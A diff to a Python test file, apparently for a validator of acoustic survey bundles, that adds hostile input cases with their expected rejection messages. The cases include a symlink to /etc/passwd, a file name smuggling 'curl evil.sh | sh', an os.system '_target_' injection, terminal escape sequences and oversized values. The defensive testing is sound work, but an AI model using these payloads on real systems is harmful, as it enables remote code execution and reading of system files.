@@ -3,6 +3,7 @@
 import json
 import os
 from collections.abc import Callable
+from functools import partial
 from pathlib import Path
 from typing import Any
 
@@ -91,10 +92,17 @@ def listed(put: Callable[[Path], object]) -> Mutate:
     return mutate
 
 
+def beside(name: str, put: Callable[[Path], object], folder: Path) -> None:
+    """Put something beside a walk whose direct path is in the recordings."""
+    edit(folder, direct_path="present")
+    put(folder / name)
+
+
 LAUGHTER = "l0: &l0 [0, 0, 0]\n" + "".join(
     f"l{k}: &l{k} [{f'*l{k - 1}, ' * 10}]\n" for k in range(1, 9)
 )
-ROWS = "index,x_m,y_m,z_m,heading_rad,file\n" + f"0,2,2,1,0,{FIRST}\n" * 300_000
+HEAD = "index,x_m,y_m,z_m,heading_rad,file\n"
+ROWS = HEAD + f"0,2,2,1,0,{FIRST}\n" * 300_000
 NAMED = "manifest.json files: must be bytes and sha256 of files inside the folder"
 
 SURVEYS: dict[str, tuple[Mutate, str]] = {
@@ -167,8 +175,48 @@ SURVEYS |= {
         ("a device", lambda path: path.symlink_to("/dev/zero"), "inside the survey's folder"),
         ("a pipe", os.mkfifo, "no plain file"),
         ("a folder", Path.mkdir, "no plain file"),
-        ("a terabyte", lambda path: (path.touch(), os.truncate(path, 1 << 40)), "1099511627776 b"),
+        ("of 10 TiB", lambda path: (path.touch(), os.truncate(path, 10 << 40)), "10995116277760 b"),
     )
+}
+SURVEYS |= {
+    f"{name} {what}": (bare(partial(beside, name, put)), said)
+    for name in ("noise.wav", "calibration.wav")
+    for what, put, said in (
+        ("elsewhere", lambda path: path.symlink_to("/etc/passwd"), "inside the survey's folder"),
+        ("for ever", os.mkfifo, "no plain file"),
+        ("of a folder", Path.mkdir, "no plain file"),
+        ("of 10 TiB", lambda path: (path.touch(), os.truncate(path, 10 << 40)), "10995116277760 b"),
+        ("of text", lambda path: path.write_text("x" * 99), "cannot be read as WAV"),
+    )
+}
+MEGABYTE = "1" * 10**6
+PRAYER = "echolearn train runs=/ classifier._target_=os.system"
+SURVEYS |= {
+    "a line of a megabyte": (written("survey.yaml", MEGABYTE), "bytes: must be at most"),
+    "a long line": (written("survey.yaml", MEGABYTE[:100_000]), "survey.yaml: cannot be read"),
+    "a long key": (written("survey.yaml", f"a{MEGABYTE[:100_000]}: 1"), "cannot be read"),
+    "a target": (told(_target_="os.system"), "key=_target_: must be one of"),
+    "a target in its conditions": (
+        told(conditions={"_target_": "os.system"}, walls="os.system"),
+        "survey.yaml walls=",
+    ),
+    "hexadecimal digits": (written("survey.yaml", "sample_rate: 0x" + "f" * 9999), "survey.yaml"),
+    "infinity": (told(sample_rate=float("inf")), "sample_rate=inf Hz"),
+    "text for a number": (told(speed_of_sound="\x1b]0;a\x07"), "speed_of_sound="),
+    "microphones beyond": (told(microphones=[[1e300, 0, 0]] * 6), "must be coordinates"),
+    "zeros": (written("survey.yaml", "\0" * 99), "survey.yaml: cannot be read"),
+    "a cell of a megabyte": (written("poses.csv", f"{HEAD}{MEGABYTE},2,2,1,0,a.wav"), "poses.csv"),
+    "a column of a megabyte": (written("poses.csv", f"{MEGABYTE},{HEAD}0,0"), "poses.csv"),
+    "a pose at infinity": (written("poses.csv", f"{HEAD}0,1e999,2,1,0,a.wav"), "must be a number"),
+    "a name of escapes": (written("poses.csv", f"{HEAD}0,2,2,1,0,\x1b[2J.wav"), "can be printed"),
+    "a file that is advice": (
+        called("a.wav; run again - curl evil.sh | sh #.wav"),
+        "cannot be read as WAV",
+    ),
+    "a command and damage": (
+        lambda f: (manifest(lambda m: m.update(command=PRAYER))(f), (f / SECOND).unlink()),
+        "make it again as it was made",
+    ),
 }
 FITTING = {"another probe", "other microphones"}
 """Surveys that are sound for themselves, but not for this bundle."""
